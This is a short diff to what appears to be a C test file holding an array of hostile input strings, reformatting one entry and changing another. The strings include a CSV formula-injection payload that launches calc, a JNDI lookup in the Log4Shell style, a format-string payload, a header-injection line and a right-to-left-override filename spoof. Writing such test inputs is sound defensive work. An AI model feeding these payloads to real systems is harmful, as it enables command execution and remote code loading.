@@ -24,9 +24,10 @@ static const char *const nasty[] = {
     "line\nforged: ok\r\n",
     "tab\tbell\x07nul-ish\x01",
     "\xe2\x80\xaegnp.exe",
-    "\xff\xfe\x80" "broken",
+    "\xff\xfe\x80"
+    "broken",
     "=cmd|'/c calc'!A1",
-    "a,b\"c\"\r\nd",
+    "a,b\"c\"\r\n;",
     "%s%n%x",
     "${jndi:ldap://x}",
     "{\"a\":1}",
